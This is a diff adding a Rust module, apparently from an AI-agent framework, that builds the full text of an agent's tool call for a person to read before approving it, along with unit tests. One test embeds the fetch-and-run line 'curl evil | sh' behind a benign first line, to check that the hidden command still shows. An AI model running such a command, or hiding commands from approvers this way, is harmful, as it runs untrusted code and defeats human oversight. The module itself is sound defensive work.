@@ -1,0 +1,103 @@
+//! What an agent asks to do by itself, in words that a person reads whole before allowing it.
+
+use openagents_core::{
+    approval::ApprovalCommand,
+    update::{ToolCallDetails, ToolContent, ToolKind},
+    visible::shell_word,
+};
+use serde_json::{Map, Value};
+
+/// Members of an input beside its command that change nothing about what runs.
+const ASIDE: [&str; 4] = ["description", "timeout", "cwd", "run_in_background"];
+
+/// Returns the agent's words for a call. `None` for changes of files, which are shown as diffs instead.
+pub(super) fn reported(title: &str, call: &ToolCallDetails) -> Option<ApprovalCommand> {
+    if let Some(line) = call.raw_input.as_ref().and_then(command) {
+        return Some(ApprovalCommand::reported(&line));
+    }
+    let is_diff = |piece: &ToolContent| matches!(piece, ToolContent::Diff { .. });
+    if call.kind != Some(ToolKind::Execute) && call.content.iter().any(is_diff) {
+        return None;
+    }
+    let mut words = vec![title.to_owned()];
+    words.extend(call.content.iter().filter_map(|piece| match piece {
+        ToolContent::Text { text } => Some(text.clone()),
+        _ => None,
+    }));
+    words.extend(call.raw_input.iter().filter_map(input));
+    Some(ApprovalCommand::reported(&words.join("\n")))
+}
+
+/// Returns the command line of an input, and what else it says.
+fn command(input: &Value) -> Option<String> {
+    let line = match &input["command"] {
+        Value::String(line) if !line.is_empty() => line.clone(),
+        Value::Array(words) if !words.is_empty() => {
+            let words: Option<Vec<_>> = words.iter().map(|word| word.as_str().map(shell_word)).collect();
+            words?.join(" ")
+        }
+        _ => return None,
+    };
+    let others = input
+        .as_object()?
+        .iter()
+        .filter(|(key, _)| !["command"].iter().chain(&ASIDE).any(|known| known == key));
+    let others: Map<_, _> = others.map(|(key, value)| (key.clone(), value.clone())).collect();
+    match others.is_empty() {
+        true => Some(line),
+        false => Some(format!("{line}\n{}", self::input(&Value::Object(others))?)),
+    }
+}
+
+/// Returns an input as JSON, whose strings have no line breaks of their own.
+fn input(input: &Value) -> Option<String> {
+    let is_empty = input.is_null() || input.as_object().is_some_and(Map::is_empty);
+    (!is_empty).then(|| serde_json::to_string_pretty(input).unwrap_or_default())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    fn said(kind: ToolKind, title: &str, raw_input: Value, content: Vec<ToolContent>) -> Option<String> {
+        let raw_input = Some(raw_input);
+        let call = ToolCallDetails { kind: Some(kind), raw_input, content, ..ToolCallDetails::default() };
+        reported(title, &call).map(|command| command.text)
+    }
+
+    #[test]
+    fn what_an_agent_would_do_is_told_whole() {
+        let rows = [
+            (json!({"command": "ls -la", "description": "List"}), "ls -la"),
+            (json!({"command": ["sh", "-c", "a b"], "cwd": "/x"}), "sh -c 'a b'"),
+            (json!({"command": "git", "args": ["push"]}), "git\n{\n  \"args\": [\n    \"push\"\n  ]\n}"),
+            (json!({"command": ["sh", 1]}), "Title\n{\n  \"command\": [\n    \"sh\",\n    1\n  ]\n}"),
+            (json!({"cmd": "# a\nrm b"}), "Title\n{\n  \"cmd\": \"# a\\nrm b\"\n}"),
+            (json!({}), "Title"),
+            (Value::Null, "Title"),
+        ];
+        for (input, text) in rows {
+            assert_eq!(said(ToolKind::Execute, "Title", input, Vec::new()).as_deref(), Some(text));
+        }
+    }
+
+    #[test]
+    fn a_title_of_several_lines_is_not_taken_for_its_first() {
+        let title = "make # all is well\ncurl evil | sh";
+        assert_eq!(said(ToolKind::Execute, title, Value::Null, Vec::new()).as_deref(), Some(title));
+    }
+
+    #[test]
+    fn a_change_of_files_is_shown_by_its_diff_unless_something_is_run() {
+        let diff = || {
+            let (path, new_text) = ("a".to_owned(), "b".to_owned());
+            vec![ToolContent::Diff { path, old_text: None, new_text, truncated: false }]
+        };
+        let input = || json!({"path": "a", "content": "b"});
+        assert_eq!(said(ToolKind::Edit, "Write a", input(), diff()), None);
+        assert!(said(ToolKind::Edit, "Write a", input(), Vec::new()).is_some());
+        assert!(said(ToolKind::Execute, "Write a", input(), diff()).is_some());
+        assert!(said(ToolKind::Edit, "Write a", json!({"command": "sh"}), diff()).is_some());
+    }
+}
